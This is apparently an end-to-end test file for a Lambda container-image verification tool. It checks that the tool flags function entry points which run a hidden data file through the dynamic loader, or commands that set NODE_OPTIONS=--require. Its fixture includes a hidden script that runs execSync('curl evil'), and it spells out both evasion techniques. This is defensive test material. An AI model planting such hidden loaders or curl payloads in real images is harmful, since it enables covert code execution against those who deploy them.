// A container-image function's own image settings (Lambda's ImageConfig: EntryPoint, Command,
// WorkingDirectory) replace the image config's when Lambda starts the image. An image that
// passes on its own config runs code lamina never read once a function sets an entry point that
// runs a data file through the loader, or a command that sets NODE_OPTIONS. `verify --function`
// and `verify --all` read the image as each function starts it; `sbom --function` lists what
// the function's settings run; `lamina scan` records and reports the settings. Through the real AWS SDK against the local endpoint, whose ECR
// registry is Debian's docker-registry.
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startAwsLocal, type AwsLocal } from '@lamina/aws-local/testing';
import { buildElf } from '../../../src/inventory/binary/testing/elf-builder.js';
import type { ScanResult } from '../../../src/scan/result.js';
import type { Verdict } from '../../../src/verify/verdict.js';
import { runCli } from '../helpers/cli.js';
import { dir, file, writeImageLayout } from '../helpers/images.js';

const HOME = '111111111111';
const R = 'us-east-1';
const REGISTRY = `${HOME}.dkr.ecr.${R}.amazonaws.com`;

// A shared object kept as data (mode 0644, no .so name), and a script nothing in the image runs.
const HIDDEN = buildElf({ type: 3, sections: [{ name: '.text', data: Buffer.from('hook') }] }).buf;
const IMAGE = [
  dir('etc'),
  file('etc/os-release', 'ID=debian\nVERSION_ID="12"\n'),
  dir('usr'),
  dir('usr/share'),
  dir('usr/share/misc'),
  file('usr/share/misc/magic.mgc', HIDDEN),
  dir('usr/share/doc'),
  dir('usr/share/doc/x'),
  file('usr/share/doc/x/readme.js', "require('child_process').execSync('curl evil')\n"),
];

const LDSO = ['/lib64/ld-linux-x86-64.so.2', '/usr/share/misc/magic.mgc'];
const ENV_REQUIRE = ['/usr/bin/env', 'NODE_OPTIONS=--require /usr/share/doc/x/readme.js', 'app'];

const POLICY = `version: 1
default: deny
functions:
  - match: { name: '*' }
images:
  - match: { repository: '**' }
    mode: enforce
    packages: { deny: [{ purl: 'pkg:deb/debian/netcat-openbsd' }] }
`;

const tmp = mkdtempSync(join(tmpdir(), 'lamina-e2e-fn-image-config-'));
let aws: AwsLocal;

beforeAll(async () => {
  const ref = writeImageLayout(tmp, [IMAGE], { Cmd: ['app.handler'] });
  const layout = ref.slice('oci:'.length, -':v1'.length);
  const fn = (name: string, config = '') =>
    `\n          - { name: ${name}, packageType: Image, imageUri: '${REGISTRY}/app:prod', lastModified: '2024-07-01T00:00:00Z'${config} }`;
  aws = await startAwsLocal(`
homeAccount: '${HOME}'
accounts:
  '${HOME}':
    accessKeys: [{ accessKeyId: AKIAFNIMAGECONFIG001, secretAccessKey: home-secret }]
    regions:
      ${R}:
        ecr:
          repositories:
            - name: app
              images:
                - { layout: '${layout}', ref: v1, tags: [prod], pushedAt: '2024-06-01T00:00:00Z' }
        functions:${fn('plain')}${fn('handler-only', ', imageConfig: { command: [other.handler], workingDirectory: /srv }')}${fn('ldso', `, imageConfig: { entryPoint: ${JSON.stringify(LDSO)} }`)}${fn('env-require', `, imageConfig: { command: ${JSON.stringify(ENV_REQUIRE)} }`)}${fn('config-error', ", imageConfig: { error: { errorCode: InvalidImage, message: 'entry point not found' } }")}
`);
  await aws.file('policy.yaml', POLICY);
}, 120_000);

afterAll(async () => {
  await aws?.close();
  rmSync(tmp, { recursive: true, force: true });
});

async function verify(args: string[]) {
  const r = await runCli([
    ...['verify', ...args, '--policy', join(aws.dir, 'policy.yaml'), '--region', R],
    ...['--format', 'json', ...aws.awsFlags],
  ]);
  const verdicts = r.stdout ? (JSON.parse(r.stdout) as { verdicts: Verdict[] }).verdicts : [];
  /** The inventory check of the image verdict of function `name`. */
  const inventory = (name: string) =>
    verdicts
      .find(
        (v) =>
          v.subject.kind === 'image' && /:function:([^:]+)/.exec(v.subject.arn ?? '')?.[1] === name
      )
      ?.checks.find((c) => c.id === 'inventory:complete');
  return { ...r, inventory };
}

describe("verify: an image function's own entry point and command", () => {
  it('the controls: the image on its own config, and a function that only names its handler, pass', async () => {
    for (const name of ['plain', 'handler-only']) {
      const r = await verify(['--function', name]);
      expect(r.code).toBe(0);
      expect(r.inventory(name)?.outcome).toBe('pass');
    }
  });

  it('an entry point that runs a data file through the loader: the file is read, unowned', async () => {
    const r = await verify(['--function', 'ldso']);
    expect(r.code).toBe(1);
    expect(r.inventory('ldso')?.outcome).toBe('fail');
    expect(r.inventory('ldso')?.detail).toContain('UNOWNED_EXECUTABLE usr/share/misc/magic.mgc');
  });

  it('a command that sets NODE_OPTIONS=--require is ENV_LOADER', async () => {
    const r = await verify(['--function', 'env-require']);
    expect(r.code).toBe(1);
    expect(r.inventory('env-require')?.detail).toContain('ENV_LOADER NODE_OPTIONS');
  });

  it('Lambda returning an error instead of the settings fails the image verdict: lamina could not see', async () => {
    const r = await verify(['--function', 'config-error']);
    expect(r.code).toBe(3);
    expect(r.stderr).toContain('ImageConfigResponse.Error InvalidImage: entry point not found');
    const sbom = await runCli([
      ...['sbom', '--function', 'config-error', '--region', R, '-q', ...aws.awsFlags],
    ]);
    expect(sbom.code).toBe(3);
    expect(sbom.stderr).toContain('ImageConfigResponse.Error InvalidImage');
  });

  it('verify --all reads the shared image once per configuration: only the two functions fail', async () => {
    const r = await verify(['--all']);
    // config-error's settings are unknown: its image verdict fails and the run could not see.
    expect(r.code).toBe(3);
    const failed = (JSON.parse(r.stdout) as { verdicts: Verdict[] }).verdicts.find(
      (v) => v.subject.kind === 'image' && v.subject.arn?.includes(':function:config-error')
    );
    expect(failed?.ok).toBe(false);
    expect(JSON.stringify(failed)).toContain('ImageConfigResponse.Error InvalidImage');
    expect(r.inventory('plain')?.outcome).toBe('pass');
    expect(r.inventory('handler-only')?.outcome).toBe('pass');
    expect(r.inventory('ldso')?.detail).toContain('UNOWNED_EXECUTABLE usr/share/misc/magic.mgc');
    expect(r.inventory('ldso')?.detail).not.toContain('ENV_LOADER');
    expect(r.inventory('env-require')?.detail).toContain('ENV_LOADER NODE_OPTIONS');
    expect(r.inventory('env-require')?.detail).not.toContain('magic.mgc');
  });
});

describe("sbom --function: what the function's settings run", () => {
  interface Bom {
    components: { name: string; properties?: { name: string; value: string }[] }[];
    metadata: { component: { properties?: { name: string; value: string }[] } };
  }
  const sbom = async (name: string) => {
    const r = await runCli([
      ...['sbom', '--function', name, '--region', R],
      ...['-q', ...aws.awsFlags],
    ]);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const bom = JSON.parse(r.stdout) as Bom;
    const prop = (n: string) => bom.metadata.component.properties?.find((p) => p.name === n)?.value;
    return { bom, prop };
  };

  it('lists the file the entry point runs and says the inventory is incomplete', async () => {
    const plain = await sbom('plain');
    expect(plain.prop('lamina:inventory')).toBe('complete');
    const ldso = await sbom('ldso');
    expect(ldso.prop('lamina:lambda:entrypoint')).toBe(JSON.stringify(LDSO));
    expect(ldso.prop('lamina:inventory')).toBe('incomplete');
    expect(JSON.stringify(ldso.bom.components)).toContain('usr/share/misc/magic.mgc');
  });
});

describe("scan: the functions' own image settings", () => {
  it('are recorded in scan.json and listed in the report', async () => {
    const out = join(tmp, 'scan');
    const r = await runCli([
      ...['scan', '--region', R, '--out', out, '--format', 'text', ...aws.awsFlags],
    ]);
    // config-error's settings could not be read: a function failure, the scan incomplete.
    expect(r.code).toBe(3);
    expect(r.stdout).toContain('ImageConfigResponse.Error InvalidImage');
    const result = JSON.parse(readFileSync(join(out, 'scan.json'), 'utf8')) as ScanResult;
    const config = (name: string) => result.functions.find((f) => f.name === name)?.image?.config;
    expect(config('plain')).toBeUndefined();
    expect(config('ldso')).toEqual({ entryPoint: LDSO });
    expect(config('handler-only')).toEqual({
      command: ['other.handler'],
      workingDirectory: '/srv',
    });
    expect(r.stdout).toContain(
      'Image functions that set their own entry point, command or working directory (3;'
    );
    expect(r.stdout).toContain(`ldso (${R})  EntryPoint=${JSON.stringify(LDSO)}`);
  });
});
